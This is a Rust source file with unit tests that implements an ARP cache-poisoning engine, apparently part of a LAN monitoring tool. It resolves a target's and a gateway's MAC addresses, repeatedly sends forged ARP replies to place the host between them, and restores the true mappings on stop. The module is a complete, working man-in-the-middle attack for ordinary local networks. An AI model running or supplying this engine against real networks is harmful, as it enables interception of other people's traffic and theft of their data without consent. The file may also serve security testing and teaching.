//! ARP cache poisoning session
//!
//! Lifecycle: `Idle -> Resolving -> Active -> Stopping -> Idle`.
//!
//! `initialize` resolves both endpoints and leaves the engine in `Resolving`
//! (addresses known, nothing forged yet). `start` spawns the poisoning thread.
//! `stop` signals that thread, joins it to take the frame sender back, sends
//! the true mappings three times and only then closes the handle.

use pnet::util::MacAddr;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

use crate::capture::{default_link, CaptureOptions, FrameSender, SharedLink};
use crate::config::{
    resolve_timeout, RESOLVE_POLL_INTERVAL, RESTORE_GAP, RESTORE_ROUNDS, SPOOF_INTERVAL,
};
use crate::error::{Error, Result};
use crate::models::InterfaceInfo;
use crate::network::frames::build_arp_reply;
use crate::network::is_local_subnet;
use crate::scanner::ArpResolver;

/// Engine lifecycle state
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum MitmState {
    Idle,
    Resolving,
    Active,
    Stopping,
}

impl std::fmt::Display for MitmState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let label = match self {
            MitmState::Idle => "idle",
            MitmState::Resolving => "resolving",
            MitmState::Active => "active",
            MitmState::Stopping => "stopping",
        };
        f.write_str(label)
    }
}

/// Addresses of one poisoning session
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SpoofSession {
    pub target_ip: Ipv4Addr,
    pub gateway_ip: Ipv4Addr,
    pub target_mac: MacAddr,
    pub gateway_mac: MacAddr,
    /// MAC of the observing interface
    pub host_mac: MacAddr,
}

impl SpoofSession {
    /// Forged replies: target learns gateway-at-host, gateway learns target-at-host.
    fn poison_frames(&self) -> Result<[Vec<u8>; 2]> {
        Ok([
            build_arp_reply(self.host_mac, self.gateway_ip, self.target_mac, self.target_ip)?,
            build_arp_reply(self.host_mac, self.target_ip, self.gateway_mac, self.gateway_ip)?,
        ])
    }

    /// Genuine replies restoring both caches.
    fn restore_frames(&self) -> Result<[Vec<u8>; 2]> {
        Ok([
            build_arp_reply(self.gateway_mac, self.gateway_ip, self.target_mac, self.target_ip)?,
            build_arp_reply(self.target_mac, self.target_ip, self.gateway_mac, self.gateway_ip)?,
        ])
    }

    /// Capture filter that drops frames we forward ourselves
    pub fn monitor_filter(&self) -> String {
        monitor_filter(self.host_mac)
    }
}

/// Capture filter excluding frames sent by `host_mac`, so forwarded
/// traffic is not counted twice.
pub fn monitor_filter(host_mac: MacAddr) -> String {
    format!("not ether src {}", host_mac)
}

struct SpoofWorker {
    running: Arc<AtomicBool>,
    stop_tx: mpsc::Sender<()>,
    handle: JoinHandle<Box<dyn FrameSender>>,
}

/// ARP spoofing engine for one target/gateway pair
pub struct MitmEngine {
    link: SharedLink,
    resolve_timeout: Duration,
    spoof_interval: Duration,
    poll_interval: Duration,
    state: MitmState,
    session: Option<SpoofSession>,
    interface: Option<InterfaceInfo>,
    worker: Option<SpoofWorker>,
}

impl MitmEngine {
    /// Engine on the real link
    pub fn new() -> Self {
        Self::with_link(default_link())
    }

    pub fn with_link(link: SharedLink) -> Self {
        Self {
            link,
            resolve_timeout: resolve_timeout(),
            spoof_interval: SPOOF_INTERVAL,
            poll_interval: RESOLVE_POLL_INTERVAL,
            state: MitmState::Idle,
            session: None,
            interface: None,
            worker: None,
        }
    }

    pub fn with_resolve_timeout(mut self, timeout: Duration) -> Self {
        self.resolve_timeout = timeout;
        self
    }

    pub fn with_spoof_interval(mut self, interval: Duration) -> Self {
        self.spoof_interval = interval;
        self
    }

    pub fn with_poll_interval(mut self, poll_interval: Duration) -> Self {
        self.poll_interval = poll_interval;
        self
    }

    pub fn state(&self) -> MitmState {
        self.state
    }

    pub fn session(&self) -> Option<&SpoofSession> {
        self.session.as_ref()
    }

    pub fn is_active(&self) -> bool {
        self.state == MitmState::Active
    }

    /// Resolve target and gateway MACs on `interface`.
    ///
    /// On failure the engine returns to `Idle` and the error names which
    /// endpoint did not answer.
    pub fn initialize(
        &mut self,
        target_ip: Ipv4Addr,
        gateway_ip: Ipv4Addr,
        interface: &InterfaceInfo,
    ) -> Result<()> {
        if self.state != MitmState::Idle {
            return Err(Error::configuration(format!(
                "Engine is {}, initialize requires idle",
                self.state
            )));
        }
        if target_ip == gateway_ip {
            return Err(Error::configuration(format!(
                "Target and gateway are both {}",
                target_ip
            )));
        }
        if target_ip == interface.ip || gateway_ip == interface.ip {
            return Err(Error::configuration(format!(
                "{} is the local address of {}",
                interface.ip, interface.name
            )));
        }
        for (role, ip) in [("target", target_ip), ("gateway", gateway_ip)] {
            if !is_local_subnet(ip, interface) {
                return Err(Error::configuration(format!(
                    "{} {} is outside the subnet of {} ({}/{})",
                    role, ip, interface.name, interface.ip, interface.prefix_len
                )));
            }
        }

        self.state = MitmState::Resolving;
        let resolver = ArpResolver::new(Arc::clone(&self.link)).with_poll_interval(self.poll_interval);

        let resolved = self
            .resolve_endpoint(&resolver, "target", target_ip, interface)
            .and_then(|target_mac| {
                self.resolve_endpoint(&resolver, "gateway", gateway_ip, interface)
                    .map(|gateway_mac| (target_mac, gateway_mac))
            });

        let (target_mac, gateway_mac) = match resolved {
            Ok(macs) => macs,
            Err(e) => {
                self.state = MitmState::Idle;
                return Err(e);
            }
        };

        self.session = Some(SpoofSession {
            target_ip,
            gateway_ip,
            target_mac,
            gateway_mac,
            host_mac: interface.mac,
        });
        self.interface = Some(interface.clone());
        Ok(())
    }

    fn resolve_endpoint(
        &self,
        resolver: &ArpResolver,
        role: &'static str,
        ip: Ipv4Addr,
        interface: &InterfaceInfo,
    ) -> Result<MacAddr> {
        tracing::info!("[MITM] Resolving {} MAC ({})...", role, ip);
        let mac = resolver
            .resolve(ip, interface, self.resolve_timeout)
            .map_err(|e| Error::ResolutionFailure {
                role,
                ip,
                source: Box::new(e),
            })?;
        tracing::info!("[MITM] {} MAC: {}", role, mac);
        Ok(mac)
    }

    /// Begin poisoning in the background. Returns immediately.
    pub fn start(&mut self) -> Result<()> {
        if self.state != MitmState::Resolving {
            return Err(Error::configuration(format!(
                "Engine is {}, start requires a resolved session",
                self.state
            )));
        }
        let (Some(session), Some(interface)) = (self.session.as_ref(), self.interface.as_ref())
        else {
            return Err(Error::configuration("No resolved session"));
        };

        let frames = session.poison_frames()?;
        let (sender, receiver) = self.link.open(interface, &CaptureOptions::default())?.split();
        drop(receiver);

        let running = Arc::new(AtomicBool::new(true));
        let (stop_tx, stop_rx) = mpsc::channel();
        let interval = self.spoof_interval;

        let running_clone = Arc::clone(&running);
        let handle = std::thread::Builder::new()
            .name("arp-spoofer".to_string())
            .spawn(move || poison_loop(sender, frames, interval, running_clone, stop_rx))
            .map_err(|e| Error::capture(format!("Failed to spawn spoofing thread: {}", e)))?;

        tracing::info!(
            "[MITM] Poisoning {} <-> {} every {:?}",
            session.target_ip,
            session.gateway_ip,
            interval
        );

        self.worker = Some(SpoofWorker {
            running,
            stop_tx,
            handle,
        });
        self.state = MitmState::Active;
        Ok(())
    }

    /// Stop poisoning and restore both caches. No-op unless active.
    pub fn stop(&mut self) {
        if self.state != MitmState::Active {
            return;
        }
        self.state = MitmState::Stopping;

        let sender = self.worker.take().and_then(|worker| {
            worker.running.store(false, Ordering::SeqCst);
            // A send error only means the thread already exited
            let _ = worker.stop_tx.send(());
            match worker.handle.join() {
                Ok(sender) => Some(sender),
                Err(_) => {
                    tracing::error!("[MITM] Spoofing thread panicked");
                    None
                }
            }
        });

        let sender = sender.or_else(|| self.reopen_sender());
        match (sender, self.session.as_ref()) {
            (Some(mut sender), Some(session)) => restore(sender.as_mut(), session),
            _ => tracing::warn!("[MITM] No usable handle, skipping restoration"),
        }

        self.session = None;
        self.interface = None;
        self.state = MitmState::Idle;
        tracing::info!("[MITM] Stopped");
    }

    fn reopen_sender(&self) -> Option<Box<dyn FrameSender>> {
        let interface = self.interface.as_ref()?;
        match self.link.open(interface, &CaptureOptions::default()) {
            Ok(handle) => Some(handle.split().0),
            Err(e) => {
                tracing::warn!("[MITM] Failed to reopen handle for restoration: {}", e);
                None
            }
        }
    }
}

impl Default for MitmEngine {
    fn default() -> Self {
        Self::new()
    }
}

impl Drop for MitmEngine {
    fn drop(&mut self) {
        self.stop();
    }
}

fn poison_loop(
    mut sender: Box<dyn FrameSender>,
    frames: [Vec<u8>; 2],
    interval: Duration,
    running: Arc<AtomicBool>,
    stop_rx: mpsc::Receiver<()>,
) -> Box<dyn FrameSender> {
    loop {
        match stop_rx.recv_timeout(interval) {
            Err(RecvTimeoutError::Timeout) => {}
            Ok(()) | Err(RecvTimeoutError::Disconnected) => break,
        }

        for frame in &frames {
            if !running.load(Ordering::SeqCst) {
                return sender;
            }
            if let Err(e) = sender.send_frame(frame) {
                tracing::warn!("[MITM] Error sending spoof packet: {}", e);
            }
        }
    }
    sender
}

fn restore(sender: &mut dyn FrameSender, session: &SpoofSession) {
    tracing::info!("[MITM] Restoring network (unspoofing)...");

    let frames = match session.restore_frames() {
        Ok(frames) => frames,
        Err(e) => {
            tracing::warn!("[MITM] Failed to build restoration frames: {}", e);
            return;
        }
    };

    for round in 0..RESTORE_ROUNDS {
        for frame in &frames {
            if let Err(e) = sender.send_frame(frame) {
                tracing::warn!("[MITM] Restoration round {} send failed: {}", round + 1, e);
            }
        }
        if round + 1 < RESTORE_ROUNDS {
            std::thread::sleep(RESTORE_GAP);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::MemoryLink;
    use crate::network::frames::ArpFrame;

    const TARGET: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 20);
    const GATEWAY: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 1);

    fn host_mac() -> MacAddr {
        MacAddr::new(0x02, 0, 0, 0, 0, 0x99)
    }
    fn target_mac() -> MacAddr {
        MacAddr::new(0x02, 0, 0, 0, 0, 0x20)
    }
    fn gateway_mac() -> MacAddr {
        MacAddr::new(0x02, 0, 0, 0, 0, 0x01)
    }

    fn interface() -> InterfaceInfo {
        InterfaceInfo::detached("mem0", Ipv4Addr::new(192, 168, 1, 50), host_mac(), 24)
    }

    fn lan() -> MemoryLink {
        MemoryLink::new()
            .with_neighbour(TARGET, target_mac())
            .with_neighbour(GATEWAY, gateway_mac())
    }

    fn engine(link: &MemoryLink, interval: Duration) -> MitmEngine {
        MitmEngine::with_link(Arc::new(link.clone()))
            .with_resolve_timeout(Duration::from_millis(200))
            .with_poll_interval(Duration::from_millis(10))
            .with_spoof_interval(interval)
    }

    fn replies(link: &MemoryLink) -> Vec<ArpFrame> {
        link.sent_arp().into_iter().filter(ArpFrame::is_reply).collect()
    }

    #[test]
    fn test_initialize_resolves_both_and_waits_in_resolving() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_secs(3600));

        engine.initialize(TARGET, GATEWAY, &interface()).unwrap();

        assert_eq!(engine.state(), MitmState::Resolving);
        let session = engine.session().unwrap();
        assert_eq!(session.target_mac, target_mac());
        assert_eq!(session.gateway_mac, gateway_mac());
        assert_eq!(session.host_mac, host_mac());
        // one request per endpoint, no forged replies yet
        assert_eq!(link.send_attempts(), 2);
        assert!(replies(&link).is_empty());
    }

    #[test]
    fn test_gateway_timeout_is_resolution_failure() {
        let link = MemoryLink::new().with_neighbour(TARGET, target_mac());
        let mut engine = engine(&link, Duration::from_secs(3600));

        let err = engine.initialize(TARGET, GATEWAY, &interface()).unwrap_err();

        match err {
            Error::ResolutionFailure { role, ip, source } => {
                assert_eq!(role, "gateway");
                assert_eq!(ip, GATEWAY);
                assert!(matches!(*source, Error::ResolutionTimeout { .. }));
            }
            other => panic!("unexpected error: {other}"),
        }
        assert_eq!(engine.state(), MitmState::Idle);
        assert!(engine.session().is_none());
    }

    #[test]
    fn test_rejects_identical_endpoints() {
        let mut engine = engine(&lan(), Duration::from_secs(3600));
        let err = engine.initialize(GATEWAY, GATEWAY, &interface()).unwrap_err();
        assert!(matches!(err, Error::Configuration(_)));
        assert_eq!(engine.state(), MitmState::Idle);
    }

    #[test]
    fn test_rejects_endpoint_outside_subnet() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_secs(3600));
        let err = engine
            .initialize(Ipv4Addr::new(192, 168, 2, 20), GATEWAY, &interface())
            .unwrap_err();
        assert!(matches!(&err, Error::Configuration(msg) if msg.contains("target")));
        assert_eq!(engine.state(), MitmState::Idle);
        assert!(link.sent_frames().is_empty());
    }

    #[test]
    fn test_poison_interval_is_fixed() {
        std::env::set_var("LANWATCH_SPOOF_INTERVAL_MS", "250");
        let engine = MitmEngine::with_link(Arc::new(lan()));
        assert_eq!(engine.spoof_interval, SPOOF_INTERVAL);
        assert_eq!(engine.spoof_interval, Duration::from_secs(2));
    }

    #[test]
    fn test_start_requires_resolution() {
        let mut engine = engine(&lan(), Duration::from_secs(3600));
        assert!(engine.start().is_err());
        assert_eq!(engine.state(), MitmState::Idle);
    }

    #[test]
    fn test_poisoning_frames_claim_host_mac() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_millis(20));
        engine.initialize(TARGET, GATEWAY, &interface()).unwrap();
        engine.start().unwrap();
        assert_eq!(engine.state(), MitmState::Active);

        std::thread::sleep(Duration::from_millis(120));
        let forged = replies(&link);
        engine.stop();

        assert!(forged.len() >= 2);
        let to_target = &forged[0];
        assert_eq!(to_target.sender_mac, host_mac());
        assert_eq!(to_target.sender_ip, GATEWAY);
        assert_eq!(to_target.target_mac, target_mac());
        assert_eq!(to_target.target_ip, TARGET);

        let to_gateway = &forged[1];
        assert_eq!(to_gateway.sender_mac, host_mac());
        assert_eq!(to_gateway.sender_ip, TARGET);
        assert_eq!(to_gateway.target_mac, gateway_mac());
        assert_eq!(to_gateway.target_ip, GATEWAY);
    }

    #[test]
    fn test_stop_restores_true_mapping_three_times() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_secs(3600));
        engine.initialize(TARGET, GATEWAY, &interface()).unwrap();
        engine.start().unwrap();
        engine.stop();

        assert_eq!(engine.state(), MitmState::Idle);
        assert!(engine.session().is_none());

        let restored = replies(&link);
        assert_eq!(restored.len(), 6);
        for pair in restored.chunks(2) {
            assert_eq!(pair[0].sender_mac, gateway_mac());
            assert_eq!(pair[0].sender_ip, GATEWAY);
            assert_eq!(pair[0].target_ip, TARGET);
            assert_eq!(pair[1].sender_mac, target_mac());
            assert_eq!(pair[1].sender_ip, TARGET);
            assert_eq!(pair[1].target_ip, GATEWAY);
        }
    }

    #[test]
    fn test_restoration_attempts_every_frame_despite_failures() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_secs(3600));
        engine.initialize(TARGET, GATEWAY, &interface()).unwrap();
        engine.start().unwrap();

        let before = link.send_attempts();
        link.fail_all_sends(true);
        engine.stop();

        assert_eq!(link.send_attempts() - before, 6);
        assert_eq!(engine.state(), MitmState::Idle);
    }

    #[test]
    fn test_stop_when_not_active_is_noop() {
        let link = lan();
        let mut engine = engine(&link, Duration::from_secs(3600));
        engine.stop();
        assert_eq!(engine.state(), MitmState::Idle);

        engine.initialize(TARGET, GATEWAY, &interface()).unwrap();
        let before = link.send_attempts();
        engine.stop();
        assert_eq!(engine.state(), MitmState::Resolving);
        assert_eq!(link.send_attempts(), before);
    }

    #[test]
    fn test_drop_restores_active_session() {
        let link = lan();
        {
            let mut engine = engine(&link, Duration::from_secs(3600));
            engine.initialize(TARGET, GATEWAY, &interface()).unwrap();
            engine.start().unwrap();
        }
        assert_eq!(replies(&link).len(), 6);
    }

    #[test]
    fn test_monitor_filter_excludes_host() {
        assert_eq!(
            monitor_filter(MacAddr::new(0xaa, 0xbb, 0xcc, 0, 0x11, 0x22)),
            "not ether src aa:bb:cc:00:11:22"
        );
    }
}
